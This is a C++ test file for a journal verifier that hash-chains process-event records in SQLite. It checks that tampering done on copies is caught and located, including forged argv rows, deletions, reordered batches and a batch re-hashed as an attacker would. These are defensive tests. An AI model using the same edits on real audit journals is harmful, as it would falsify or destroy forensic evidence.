// `lineage verify`: journals written by JournalWriter, then tampered with on
// a copy through SQLite, must be caught and located; anchors, evidence
// left untouched, files that are no journal, the JSON output.
#include <sys/stat.h>

#include <catch2/catch.hpp>

#include <algorithm>
#include <filesystem>
#include <map>
#include <set>
#include <tuple>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "fixture_journal.h"
#include "hashchain.h"
#include "integrity.h"
#include "journal_format.h"
#include "journal_reader.h"
#include "journal_writer.h"
#include "model.h"
#include "sqlite.h"
#include "test_util.h"
#include "verifier.h"
#include "verify.h"
#include "verify_render.h"

namespace test_verify {

using namespace lineage;
using fixture::run_lineage;
using fixture::run_process;
using fixture::RunResult;
using fixture::TempDir;
using lineage::test::Copy;
using lineage::test::describe;
using lineage::test::kBoot;
using lineage::test::of_kind;
using lineage::test::run_info;
using lineage::test::Sample;
using lineage::test::verify;
using lineage::test::write_event_batch;
using lineage::test::write_sample;
using nlohmann::json;

namespace {

std::string sha256_file(const std::string& path) {
    Sha256 sha;
    return to_hex(sha.digest(lineage::test::read_file(path)));
}

std::set<std::string> listing(const std::string& dir) {
    std::set<std::string> names;
    for (const auto& e : std::filesystem::directory_iterator(dir)) names.insert(e.path().filename().string());
    return names;
}

}  // namespace

TEST_CASE("a journal as JournalWriter writes it verifies whole", "[verify]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    Sample s = write_sample(path);
    JournalVerdict v = verify(path);
    INFO(describe(v));
    CHECK(v.status() == "whole");
    CHECK(v.findings.empty());
    CHECK(v.integrity.empty());
    CHECK(v.user_version == kJournalSchemaVersion);
    CHECK(v.application_id == kJournalApplicationId);
    CHECK(v.batches == 13);
    CHECK(v.first_batch == 1);
    CHECK(v.last_batch == 13);
    REQUIRE(v.links.size() == 13);
    for (const auto& l : v.links) CHECK(l.verified);
    CHECK(v.links.back().hash == s.head.hash);

    Copy c(path, dir / "count.db");
    int64_t rows = 0;
    for (size_t i = 0; i < kChainTableCount; ++i) {
        rows += c.scalar(std::string("SELECT count(*) FROM ") + table_name(table_at(i)));
    }
    CHECK(v.rows == rows);

    REQUIRE(v.runs.size() == 2);
    CHECK(v.runs[0].clean());
    CHECK(v.runs[0].stop_reason == "signal");
    CHECK(v.runs[0].first_batch == 1);
    CHECK(v.runs[0].last_batch == 8);
    CHECK(v.runs[0].events == 60);
    CHECK_FALSE(v.runs[1].clean());
    CHECK(v.runs[1].first_batch == 9);
    CHECK(v.runs[1].last_batch == 13);
    REQUIRE(v.gaps.size() == 1);
    CHECK(v.gaps[0].to_wall_ns > v.gaps[0].from_wall_ns);
    CHECK_FALSE(v.gaps[0].reboot);
    // Batches 2, 4, 6 of run 1 (n = 0, 2, 4) and 11 of run 2 (n = 2).
    CHECK(v.losses.size() == 4);
    for (const auto& l : v.losses) {
        CHECK(l.count == 7);
        CHECK(l.reason == "ringbuf_full");
        CHECK(l.to_wall_ns - l.from_wall_ns == 500);
    }
    std::string text = describe(v);
    CHECK_THAT(text, Catch::Contains("ends at batch 13 (run 2 was not stopped cleanly)"));
    CHECK_THAT(text, Catch::Contains("loss records: 4 (28 events)"));
    CHECK_THAT(text, Catch::Contains("13 of 13 links verify"));
}

TEST_CASE("each batch chains to the one before, across runs", "[verify][journal]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    Sample s = write_sample(path);
    auto db = Database::open_read("file:" + path + "?mode=ro");
    REQUIRE(db.ok());
    auto stmt = db->prepare("SELECT batch_id, prev_hash, hash, length(row_marks) FROM batches ORDER BY batch_id");
    REQUIRE(stmt.ok());
    std::string prev(32, '\0');
    int64_t expect = 1;
    while (stmt->step() == SQLITE_ROW) {
        INFO("batch " << stmt->int64(0));
        CHECK(stmt->int64(0) == expect++);
        CHECK(stmt->blob(1) == prev);  // batch 1 chains to 32 zero bytes
        CHECK(stmt->blob(2).size() == 32);
        CHECK(stmt->blob(2) != prev);
        prev = stmt->blob(2);
    }
    CHECK(expect == 14);
    // Run 2's first batch (9) chains to run 1's stop batch (8): one chain.
    CHECK(std::string(reinterpret_cast<const char*>(s.run1_head.hash.data()), 32) != std::string(32, '\0'));
    CHECK(*query_int(*db, "SELECT count(*) FROM runs WHERE batch = 1") == 1);
    CHECK(*query_int(*db, "SELECT count(*) FROM runs WHERE batch = 9") == 1);
    CHECK(*query_int(*db, "SELECT count(*) FROM run_stops WHERE batch = 8") == 1);
    CHECK(*query_int(*db, "SELECT count(*) FROM clock_samples WHERE batch = 12") == 1);
    CHECK(*query_int(*db, "SELECT row_count FROM batches WHERE batch_id = 12") == 0);
    // No row of any table sits outside a batch.
    for (size_t i = 0; i < kChainTableCount; ++i) {
        std::string t = table_name(table_at(i));
        INFO(t);
        CHECK(*query_int(*db, "SELECT count(*) FROM " + t + " WHERE batch NOT IN (SELECT batch_id FROM batches)") == 0);
    }
}

TEST_CASE("tampering is detected and located", "[verify][tamper]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    write_sample(path);
    Copy c(path, dir / "copy.db");

    SECTION("an edited argv") {
        int64_t batch = c.scalar("SELECT batch FROM exec WHERE rowid = 5");
        c.sql("UPDATE exec SET argv = CAST('curl' || char(0) || 'http://innocent.example/' AS BLOB) WHERE rowid = 5");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        REQUIRE(v.findings.size() == 1);
        const Finding& f = v.findings[0];
        CHECK(f.kind == FindingKind::modified);
        CHECK(f.batch == batch);
        CHECK(f.table == "exec");
        CHECK(f.rowid == 5);
        CHECK_FALSE(f.rowid_inferred);
        CHECK_THAT(describe(v), Catch::Contains(fmt::format("batch {}, exec rowid 5: modified", batch)));
    }
    SECTION("a deleted exit row") {
        int64_t batch = c.scalar("SELECT batch FROM exit WHERE rowid = 8");
        c.sql("DELETE FROM exit WHERE rowid = 8");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        REQUIRE(v.findings.size() == 1);
        const Finding& f = v.findings[0];
        CHECK(f.kind == FindingKind::deleted);
        CHECK(f.batch == batch);
        CHECK(f.table == "exit");
        CHECK(f.rowid == 8);
        CHECK(f.rowid_inferred);
    }
    SECTION("a fake process inserted into an existing batch") {
        c.sql(
            "INSERT INTO exec (batch, time_ns, tgid, start_ns, nspid, old_tid, uid, gid, euid, parent_tgid, "
            "parent_start_ns, parent_comm, comm, nodename, cgroup_id, cgroup_path, pod_uid, binary, argv, truncated) "
            "SELECT batch, time_ns + 1, 31337, start_ns, nspid, old_tid, uid, gid, euid, parent_tgid, parent_start_ns, "
            "parent_comm, comm, nodename, cgroup_id, cgroup_path, pod_uid, binary, argv, truncated "
            "FROM exec WHERE batch = 3 LIMIT 1");
        int64_t rowid = c.scalar("SELECT rowid FROM exec WHERE tgid = 31337");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        REQUIRE(v.findings.size() == 1);
        const Finding& f = v.findings[0];
        CHECK(f.kind == FindingKind::added);
        CHECK(f.batch == 3);
        CHECK(f.table == "exec");
        CHECK(f.rowid == rowid);
    }
    SECTION("two batches reordered") {
        // Swap batches 4 and 5 whole: their headers and every row.
        std::string swap =
            "UPDATE batches SET batch_id = -1 WHERE batch_id = 4;"
            "UPDATE batches SET batch_id = 4 WHERE batch_id = 5;"
            "UPDATE batches SET batch_id = 5 WHERE batch_id = -1;";
        for (size_t i = 0; i < kChainTableCount; ++i) {
            std::string t = table_name(table_at(i));
            swap += "UPDATE " + t + " SET batch = CASE batch WHEN 4 THEN 5 ELSE 4 END WHERE batch IN (4, 5);";
        }
        c.sql(swap);
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        auto breaks = of_kind(v, FindingKind::chain_break);
        REQUIRE_FALSE(breaks.empty());
        CHECK(breaks[0]->batch == 4);  // the exact batch where the order breaks
        CHECK_THAT(breaks[0]->detail, Catch::Contains("prev_hash is the hash of batch 5"));
        CHECK_THAT(breaks[0]->detail, Catch::Contains("reordered"));
        // The rows travelled with their batch: none is reported as changed.
        CHECK(of_kind(v, FindingKind::modified).empty());
        CHECK(of_kind(v, FindingKind::added).empty());
        CHECK(of_kind(v, FindingKind::deleted).empty());
        CHECK(v.links[2].verified);  // batch 3 still verifies
        CHECK_FALSE(v.links[3].verified);
    }
    SECTION("run metadata edited") {
        c.sql("UPDATE runs SET node = 'elsewhere' WHERE run_id = 1");
        c.sql("DELETE FROM run_stops WHERE run_id = 1");
        int64_t clock_batch = c.scalar("SELECT batch FROM clock_samples WHERE rowid = 3");
        c.sql("UPDATE clock_samples SET wall_ns = wall_ns + 3600000000000 WHERE rowid = 3");
        c.sql("UPDATE pods SET name = 'other-app' WHERE batch = 9");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        std::set<std::tuple<std::string, int64_t, std::string>> got;
        for (const auto& f : v.findings) got.insert({finding_kind_name(f.kind), f.batch, f.table});
        CHECK(got == std::set<std::tuple<std::string, int64_t, std::string>>{
                         {"modified", 1, "runs"},
                         {"deleted", 8, "run_stops"},
                         {"modified", clock_batch, "clock_samples"},
                         {"modified", 9, "pods"},
                     });
    }
    SECTION("a batch header edited") {
        c.sql("UPDATE batches SET committed_ns = committed_ns + 1 WHERE batch_id = 6");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        REQUIRE(v.findings.size() == 1);
        CHECK(v.findings[0].kind == FindingKind::batch_modified);
        CHECK(v.findings[0].batch == 6);
    }
    SECTION("row_count raised to hide nothing") {
        c.sql("UPDATE batches SET row_count = row_count + 1 WHERE batch_id = 6");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        REQUIRE(v.findings.size() == 1);
        CHECK(v.findings[0].kind == FindingKind::batch_modified);
        CHECK_THAT(v.findings[0].detail, Catch::Contains("row_count says 12"));
    }
    SECTION("a value's storage class changed, bytes kept") {
        c.sql("UPDATE exit SET comm = CAST(comm AS TEXT) WHERE rowid = 2");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        REQUIRE(v.findings.size() == 1);
        CHECK(v.findings[0].kind == FindingKind::modified);
        CHECK(v.findings[0].table == "exit");
        CHECK(v.findings[0].rowid == 2);
    }
    SECTION("the schema changed: a trigger added, an index dropped") {
        c.sql("CREATE TRIGGER quiet AFTER INSERT ON exec BEGIN SELECT 1; END; DROP INDEX exec_by_proc;");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        std::set<std::string> details;
        for (const auto* f : of_kind(v, FindingKind::schema)) details.insert(f->detail);
        CHECK(details ==
              std::set<std::string>{"index exec_by_proc is missing", "trigger quiet is not part of the schema"});
        CHECK(v.findings.size() == 2);
    }
    SECTION("a row outside any batch") {
        c.sql(
            "INSERT INTO fork (batch, time_ns, parent_tgid, parent_start_ns, child_tgid, child_start_ns, "
            "parent_comm) VALUES (99, 1, 1, 1, 2, 2, CAST('x' AS BLOB))");
        int64_t rowid = c.scalar("SELECT max(rowid) FROM fork");
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        REQUIRE(v.findings.size() == 1);
        CHECK(v.findings[0].kind == FindingKind::outside_batch);
        CHECK(v.findings[0].table == "fork");
        CHECK(v.findings[0].rowid == rowid);
        CHECK_THAT(v.findings[0].detail, Catch::Contains("batch 99"));
    }
    SECTION("a batch removed from the middle with its rows") {
        std::string del = "DELETE FROM batches WHERE batch_id = 6;";
        for (size_t i = 0; i < kChainTableCount; ++i) {
            del += std::string("DELETE FROM ") + table_name(table_at(i)) + " WHERE batch = 6;";
        }
        c.sql(del);
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        REQUIRE(v.findings.size() == 1);
        CHECK(v.findings[0].kind == FindingKind::batch_missing);
        CHECK(v.findings[0].batch == 6);
    }
    SECTION("a batch edited and re-hashed breaks the next link") {
        // What an attacker with the encoding would do: change a row and
        // recompute that batch's hash. The link to the next batch breaks.
        c.sql("UPDATE exec SET argv = CAST('x' AS BLOB) WHERE batch = 5");
        {
            // Re-hash batch 5 as the writer would have.
            auto db = Database::open_write(c.path);
            REQUIRE(db.ok());
            BatchHasher hasher;
            RowEncoder enc;
            for (size_t i = 0; i < kChainTableCount; ++i) {
                ChainTable t = table_at(i);
                auto s = db->prepare(
                    fmt::format("SELECT {} FROM {} WHERE batch = 5 ORDER BY rowid", chain_columns(t), table_name(t)));
                REQUIRE(s.ok());
                while (s->step() == SQLITE_ROW) {
                    enc.begin(t);
                    for (int col = 0; col < sqlite3_column_count(s->get()); ++col) {
                        if (sqlite3_column_type(s->get(), col) == SQLITE_INTEGER)
                            enc.integer(s->int64(col));
                        else if (sqlite3_column_type(s->get(), col) == SQLITE_TEXT)
                            enc.text(s->text(col));
                        else
                            enc.blob(s->blob(col));
                    }
                    hasher.add_row(enc);
                }
            }
            auto h = db->prepare("SELECT run_id, committed_ns, row_count, prev_hash FROM batches WHERE batch_id = 5");
            REQUIRE(h.ok());
            REQUIRE(h->step() == SQLITE_ROW);
            Hash prev{};
            std::memcpy(prev.data(), h->blob(3).data(), 32);
            Hash link = hasher.link(prev, BatchHeader{5, h->int64(0), h->int64(1), h->int64(2)});
            std::string marks;
            hasher.row_marks(marks);
            auto u = db->prepare("UPDATE batches SET hash = ?, row_marks = ? WHERE batch_id = 5");
            REQUIRE(u.ok());
            u->bind_blob(1, std::string_view(reinterpret_cast<const char*>(link.data()), 32));
            u->bind_blob(2, marks);
            REQUIRE(u->step() == SQLITE_DONE);
        }
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        REQUIRE(v.findings.size() == 1);
        CHECK(v.findings[0].kind == FindingKind::chain_break);
        CHECK(v.findings[0].batch == 6);
        CHECK_THAT(v.findings[0].detail, Catch::Contains("not the hash of batch 5"));
    }
}

TEST_CASE("a journal cut at a batch boundary ends there and only an anchor shows it was truncated",
          "[verify][anchor]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    Sample s = write_sample(path);
    const std::string head_line =
        format_anchor_line(1'776'848'500'000'000'000, "node-a", kBoot, s.head.batch_id, s.head.hash);
    auto cut = [&](const std::string& name, int64_t after) {
        Copy c(path, dir / name);
        std::string del = fmt::format("DELETE FROM batches WHERE batch_id > {};", after);
        for (size_t i = 0; i < kChainTableCount; ++i) {
            del += fmt::format("DELETE FROM {} WHERE batch > {};", table_name(table_at(i)), after);
        }
        c.sql(del);
        return c.path;
    };

    SECTION("without an anchor: the journal ends, nothing is tampered") {
        std::string p = cut("cut10.db", 10);
        JournalVerdict v = verify(p);
        std::string text = describe(v);
        INFO(text);
        CHECK(v.status() == "whole");
        CHECK(v.findings.empty());
        CHECK_THAT(text, Catch::Contains("ends at batch 10 (run 2 was not stopped cleanly)"));
        RunResult r = run_lineage({"verify", "--journal", p}, dir.path());
        CHECK(r.status == 0);
        // Cut inside run 1, before its stop row: run 1 now looks killed.
        std::string p5 = cut("cut5.db", 5);
        JournalVerdict v5 = verify(p5);
        CHECK(v5.status() == "whole");
        CHECK(v5.runs.size() == 1);
        CHECK_THAT(describe(v5), Catch::Contains("ends at batch 5 (run 1 was not stopped cleanly)"));
    }
    SECTION("with a later anchor: truncated after batch N, not tampered") {
        std::string p = cut("cut10.db", 10);
        VerifyReport report;
        report.journals.push_back(verify(p));
        auto a = parse_anchor(head_line);
        REQUIRE(a.ok());
        check_anchors(report, {*a});
        std::string text = VerifyTextRenderer().render(report);
        INFO(text);
        CHECK(report.journals[0].status() == "truncated");
        CHECK(report.journals[0].findings.empty());
        REQUIRE(report.anchors.size() == 1);
        CHECK(report.anchors[0].status == AnchorStatus::beyond_end);
        CHECK_FALSE(report.whole());
        CHECK_THAT(text, Catch::Contains("anchor not in chain"));
        CHECK_THAT(text, Catch::Contains("truncated after batch 10"));
        RunResult r = run_lineage({"verify", "--journal", p, "--anchor", head_line}, dir.path());
        CHECK(r.status == 1);
        CHECK_THAT(r.out, Catch::Contains("truncated after batch 10"));
        // An anchor of a batch that is still there is found.
        const std::string early = format_anchor_line(1, "node-a", kBoot, s.run1_head.batch_id, s.run1_head.hash);
        RunResult ok = run_lineage({"verify", "--journal", p, "--anchor", early}, dir.path());
        INFO(ok.out);
        CHECK(ok.status == 0);
    }
}

TEST_CASE("anchors are found, or reported not in the chain", "[verify][anchor]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    Sample s = write_sample(path);
    const std::string hex = to_hex(s.head.hash);
    const std::string line = format_anchor_line(1'776'848'500'000'000'000, "node-a", kBoot, 13, s.head.hash);

    SECTION("as a hash and as a whole anchor line") {
        RunResult r = run_lineage({"verify", "--journal", "j.db", "--anchor", hex, "--anchor", line + "\n", "--anchor",
                                   to_hex(s.run1_head.hash)},
                                  dir.path());
        INFO(r.out << r.err);
        CHECK(r.status == 0);
        CHECK_THAT(r.out, Catch::Contains("anchor found: hash=" + hex + " at batch 13 of j.db"));
        CHECK_THAT(r.out, Catch::Contains("anchor found: node=node-a batch=13 hash=" + hex));
        CHECK_THAT(r.out, Catch::Contains("at batch 8 of j.db"));
    }
    SECTION("a hash the chain does not hold") {
        std::string other(64, 'a');
        RunResult r = run_lineage({"verify", "--journal", "j.db", "--anchor", other}, dir.path());
        INFO(r.out << r.err);
        CHECK(r.status == 1);
        CHECK_THAT(r.out, Catch::Contains("anchor not in chain: hash=" + other));
        CHECK_THAT(r.out, Catch::Contains("result: NOT whole"));
    }
    SECTION("a rewritten chain: the anchor's batch has another hash") {
        Hash other{};
        other[0] = 1;
        RunResult r = run_lineage(
            {"verify", "--journal", "j.db", "--anchor", format_anchor_line(1, "node-a", kBoot, 7, other)}, dir.path());
        INFO(r.out << r.err);
        CHECK(r.status == 1);
        CHECK_THAT(r.out, Catch::Contains("anchor not in chain"));
        CHECK_THAT(r.out, Catch::Contains("batch 7 of j.db has another hash"));
    }
    SECTION("something that is no anchor is a usage error") {
        RunResult r = run_lineage({"verify", "--journal", "j.db", "--anchor", "deadbeef"}, dir.path());
        CHECK(r.status == 2);
        CHECK_THAT(r.err, Catch::StartsWith("lineage verify: --anchor: 'deadbeef' is neither"));
    }
    SECTION("anchor lines round-trip") {
        auto a = parse_anchor(format_anchor_line(0, "my node%", "boot", 42, s.head.hash));
        REQUIRE(a.ok());
        CHECK(a->node == "my node%");
        CHECK(a->boot_id == "boot");
        CHECK(a->batch == 42);
        CHECK(a->hash == s.head.hash);
        CHECK(a->time == "1970-01-01T00:00:00.000000000Z");
    }
}

TEST_CASE("verify leaves the journal byte for byte as it was", "[verify][evidence]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    write_sample(path);
    // A live-looking copy too: main file plus -wal, as a recorder leaves it.
    std::filesystem::create_directory(dir / "live");
    {
        auto w = JournalWriter::open(path);
        REQUIRE(w.ok());
        REQUIRE(w->begin_run(run_info(2'000'000'000'000)).ok());
        uint32_t pid = 5000;
        uint64_t t = 2'000'000'000'000;
        write_event_batch(*w, pid, t, 1);
        std::filesystem::copy_file(path, dir / "live/j.db");
        std::filesystem::copy_file(path + "-wal", dir / "live/j.db-wal");
    }
    for (const std::string& p : {path, dir / "live/j.db"}) {
        INFO(p);
        const std::string parent = std::filesystem::path(p).parent_path().string();
        const std::string sum = sha256_file(p);
        const int64_t mtime = lineage::test::mtime_ns(p);
        const bool has_wal = std::filesystem::exists(p + "-wal");
        const std::string wal_sum = has_wal ? sha256_file(p + "-wal") : "";
        const auto files = listing(parent);
        chmod(parent.c_str(), 0555);
        RunResult r = run_lineage({"verify", "--journal", p}, "/");
        chmod(parent.c_str(), 0755);
        INFO(r.out << r.err);
        CHECK(r.status == 0);
        CHECK(sha256_file(p) == sum);
        CHECK(lineage::test::mtime_ns(p) == mtime);
        if (has_wal) CHECK(sha256_file(p + "-wal") == wal_sum);
        CHECK(listing(parent) == files);
        if (has_wal) CHECK_THAT(r.out, Catch::Contains("read with its -wal file"));
    }
}

namespace {

// A journal of `execs` execs whose argv is `argv_bytes` long, in batches of
// 16: most of its bytes on SQLite's overflow pages.
void write_big_argv_journal(const std::string& path, int execs, size_t argv_bytes) {
    auto w = JournalWriter::open(path);
    REQUIRE(w.ok());
    uint64_t t = 1'000'000'000'000;
    REQUIRE(w->begin_run(run_info(static_cast<int64_t>(t))).ok());
    const std::string filler(argv_bytes, 'x');
    for (int i = 0; i < execs; ++i) {
        ExecEvent e;
        e.time_ns = t += 1'000'000;
        e.proc = {static_cast<uint32_t>(2000 + i), t};
        e.parent = {1, 500'000'000};
        e.comm = "sh";
        e.binary = "/bin/sh";
        e.argv = join_argv({"sh", "-c", filler});
        REQUIRE(w->add(e, "").ok());
        if (i % 16 == 15) REQUIRE(w->commit(static_cast<int64_t>(t += 1'000'000)).ok());
    }
    REQUIRE(w->commit(static_cast<int64_t>(t += 1'000'000)).ok());
}

}  // namespace

// verify reads every page of the journal. Mapped into its memory, the pages
// it read stayed resident: 824 MiB for a 954 MB journal. Worse, a journal
// cut short while verify read it (whoever can write it can do that) made a
// read of a mapped page past the new end raise SIGBUS: verify died, exit
// 135, instead of reporting the damage. Copied, its memory is its page
// caches', whatever the journal's size.
TEST_CASE("verify's memory does not grow with the journal: its pages are read, never mapped", "[verify]") {
    TempDir dir;
    const std::string small = dir / "small.db", big = dir / "big.db";
    write_big_argv_journal(small, 16, 100'000);
    write_big_argv_journal(big, 1280, 100'000);
    const auto big_size = static_cast<int64_t>(std::filesystem::file_size(big));
    REQUIRE(big_size > 120'000'000);

    RunResult a = run_lineage({"verify", "--journal", small}, dir.path(), {}, 120);
    RunResult b = run_lineage({"verify", "--journal", big}, dir.path(), {}, 120);
    INFO("small: " << a.maxrss_kib << " KiB, " << a.wall_s << " s; big (" << big_size << " bytes): " << b.maxrss_kib
                   << " KiB, " << b.wall_s << " s\n"
                   << a.err << b.err);
    REQUIRE(a.status == 0);
    REQUIRE(b.status == 0);
    // The big journal is 120 MB more; verify's peak may grow by its page
    // caches (3 x 8 MiB) and a row's worth of buffers, not by the journal.
    CHECK(b.maxrss_kib - a.maxrss_kib < 40 * 1024);
}

TEST_CASE("files that are no journal are errors naming the file", "[verify]") {
    TempDir dir;
    write_sample(dir / "good.db");
    lineage::test::write_file(dir / "text.db", "not a journal at all, not even SQLite\n");
    {
        auto db = Database::open_write(dir / "other.db");
        REQUIRE(db.ok());
        REQUIRE(db->exec("CREATE TABLE t (x)").ok());
    }
    // A version after this build's.
    const int64_t next = kJournalSchemaVersion + 1;
    std::filesystem::copy_file(dir / "good.db", dir / "next.db");
    {
        auto db = Database::open_write(dir / "next.db");
        REQUIRE(db.ok());
        REQUIRE(db->exec(fmt::format("PRAGMA user_version = {}", next)).ok());
    }
    struct Case {
        std::string file, expect;
    };
    for (const Case& c : {Case{"missing.db", "No such file or directory"}, Case{"text.db", "not a lineage journal"},
                          Case{"other.db", "not a lineage journal"},
                          Case{"next.db", fmt::format("schema version {} is not supported", next)}}) {
        INFO(c.file);
        RunResult r = run_lineage({"verify", "--journal", "good.db", "--journal", c.file}, dir.path());
        CHECK(r.status == 2);
        CHECK(r.out.empty());
        CHECK_THAT(r.err, Catch::StartsWith("lineage verify: " + c.file + ": "));
        CHECK_THAT(r.err, Catch::Contains(c.expect));
        CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
    }
    // A file whose pages are damaged is a finding (exit 1), not an error.
    std::string bytes = lineage::test::read_file(dir / "good.db");
    // Page 3 (the header's page size is big-endian at offset 16).
    const size_t page = static_cast<size_t>(static_cast<uint8_t>(bytes[16])) << 8 | static_cast<uint8_t>(bytes[17]);
    REQUIRE(bytes.size() >= 3 * page);
    for (size_t i = page * 2; i < page * 3; ++i) bytes[i] = static_cast<char>(0xA5);
    lineage::test::write_file(dir / "broken.db", bytes);
    RunResult r = run_lineage({"verify", "--journal", "broken.db"}, dir.path());
    INFO(r.out << r.err);
    CHECK(r.status == 1);
    CHECK_THAT(r.out, Catch::Contains("broken.db: DAMAGED"));
    // The schema page itself damaged: still a finding, not "no hash chain".
    bytes = lineage::test::read_file(dir / "good.db");
    for (size_t i = 100; i < page; ++i) bytes[i] = static_cast<char>(0xA5);
    lineage::test::write_file(dir / "broken1.db", bytes);
    r = run_lineage({"verify", "--journal", "broken1.db"}, dir.path());
    INFO(r.out << r.err);
    CHECK(r.status != 0);
    CHECK(r.err.find("no hash chain") == std::string::npos);
}

TEST_CASE("verify --format json", "[verify][json]") {
    TempDir dir;
    write_sample(dir / "j.db");
    Copy c(dir / "j.db", dir / "bad.db");
    c.sql("UPDATE exec SET argv = CAST('x' AS BLOB) WHERE rowid = 4");
    int64_t batch = c.scalar("SELECT batch FROM exec WHERE rowid = 4");

    RunResult r = run_lineage(
        {"verify", "--journal", "j.db", "--journal", "bad.db", "--anchor", std::string(64, 'b'), "--format", "json"},
        dir.path());
    INFO(r.out << r.err);
    CHECK(r.status == 1);
    json doc = json::parse(r.out);
    CHECK(doc.at("whole") == false);
    REQUIRE(doc.at("journals").size() == 2);
    const json& good = doc["journals"][0];
    CHECK(good.at("path") == "j.db");
    CHECK(good.at("status") == "whole");
    CHECK(good.at("chain").at("batches") == 13);
    CHECK(good.at("chain").at("verified_links") == 13);
    CHECK(good.at("chain").at("head").at("batch") == 13);
    CHECK(good.at("end").at("clean") == false);
    CHECK(good.at("end").at("run") == 2);
    CHECK(good.at("runs").size() == 2);
    CHECK(good.at("runs")[0].at("clean") == true);
    CHECK(good.at("gaps").size() == 1);
    CHECK(good.at("losses").at("records") == 4);
    CHECK(good.at("losses").at("events") == 28);
    CHECK(good.at("findings").empty());
    const json& bad = doc["journals"][1];
    CHECK(bad.at("status") == "tampered");
    REQUIRE(bad.at("findings").size() == 1);
    CHECK(bad["findings"][0].at("kind") == "modified");
    CHECK(bad["findings"][0].at("batch") == batch);
    CHECK(bad["findings"][0].at("table") == "exec");
    CHECK(bad["findings"][0].at("rowid") == 4);
    REQUIRE(doc.at("anchors").size() == 1);
    CHECK(doc["anchors"][0].at("status") == "not_in_chain");

    SECTION("and it matches schema/verify.schema.json") {
        const std::string py = "/usr/bin/python3";
        INFO("needs /usr/bin/python3 with jsonschema: apt-get install python3-jsonschema");
        REQUIRE(run_process({py, "-c", "import jsonschema"}, "/").status == 0);
        const std::string schema = std::string(LINEAGE_SOURCE_DIR) + "/schema/verify.schema.json";
        lineage::test::write_file(dir / "out.json", r.out);
        RunResult ok = run_lineage({"verify", "--journal", "j.db", "--format", "json"}, dir.path());
        lineage::test::write_file(dir / "ok.json", ok.out);
        for (const std::string f : {"out.json", "ok.json"}) {
            RunResult v = run_process({py, "-m", "jsonschema", "-i", dir / f, schema}, "/");
            INFO(f << ": " << v.out << v.err);
            CHECK(v.status == 0);
        }
        // The schema is closed: an unknown field fails.
        json drift = json::parse(ok.out);
        drift["journals"][0]["extra"] = 1;
        lineage::test::write_file(dir / "drift.json", drift.dump());
        CHECK(run_process({py, "-m", "jsonschema", "-i", dir / "drift.json", schema}, "/").status != 0);
    }
}

TEST_CASE("a version 1 journal verifies and reads as it is, and record upgrades it to append", "[verify][journal]") {
    TempDir dir;
    // A journal written by lineage 0.1 (schema version 1), kept as it was.
    const std::string v1 = std::string(LINEAGE_SOURCE_DIR) + "/testdata/journals/v1-incident.journal";
    {
        JournalVerdict v = verify(v1);
        INFO(describe(v));
        CHECK(v.user_version == 1);
        CHECK(v.status() == "whole");
        RunResult r = run_lineage({"reconstruct", "--journal", v1, "--format", "json"}, dir.path());
        INFO(r.err);
        CHECK(r.status == 0);
        CHECK(json::parse(r.out).at("trees").size() > 0);
    }
    std::filesystem::copy_file(v1, dir / "j.db");
    std::filesystem::permissions(dir / "j.db",
                                 std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
    {
        auto w = JournalWriter::open(dir / "j.db");
        REQUIRE(w.ok());
        CHECK(w->head().batch_id == 5);
        RunInfo info = run_info(5'000'000'000'000);
        info.boot_id = "b0000000-0000-4000-8000-000000000001";
        REQUIRE(w->begin_run(info).ok());
        uint32_t pid = 9000;
        uint64_t t = 5'000'000'000'000;
        write_event_batch(*w, pid, t, 1);
    }
    JournalVerdict v = verify(dir / "j.db");
    INFO(describe(v));
    CHECK(v.user_version == kJournalSchemaVersion);
    CHECK(v.status() == "whole");
    CHECK(v.runs.size() == 2);
}

namespace {
// A row of each version 3 table, as the recorder writes them: a cgroup and
// a process moved into it.
void add_membership_rows(JournalWriter& w, uint64_t t) {
    CgroupRow cg;
    cg.hierarchy = 0;
    cg.cgroup_id = 7001;
    cg.path = "/kubepods/besteffort/pod7c9e6679-7425-40de-944b-e07fc1f90ae7/4f1a2b3c4d5e";
    cg.pod_uid = "7c9e6679-7425-40de-944b-e07fc1f90ae7";
    cg.container_id = "4f1a2b3c4d5e";
    REQUIRE(w.add_cgroup(cg).ok());
    MembershipRow m;
    m.time_ns = static_cast<int64_t>(t);
    m.proc = {9100, t - 5'000'000};
    m.how = MembershipHow::move;
    m.cgroup_id = cg.cgroup_id;
    m.pod_uid = cg.pod_uid;
    m.by = {9101, t - 9'000'000};
    m.comm = "sleep";
    REQUIRE(w.add_membership(m).ok());
}
}  // namespace

TEST_CASE("a version 2 journal with a prune verifies and reads as it is, and stays whole once upgraded",
          "[verify][journal]") {
    TempDir dir;
    // Written by lineage at e6e2eb6 (schema version 2): the incident fixture
    // and a prune of its first batch (testdata/journals/README.md).
    const std::string v2 = std::string(LINEAGE_SOURCE_DIR) + "/testdata/journals/v2-incident-pruned.journal";
    {
        JournalVerdict v = verify(v2);
        INFO(describe(v));
        CHECK(v.user_version == 2);
        CHECK(v.status() == "whole");
        RunResult r = run_lineage({"reconstruct", "--journal", v2, "--pod", "my-app-6d4f9-xk2p1"}, dir.path());
        INFO(r.err);
        CHECK(r.status == 0);
        CHECK(r.out.find("pod production/my-app-6d4f9-xk2p1") != std::string::npos);
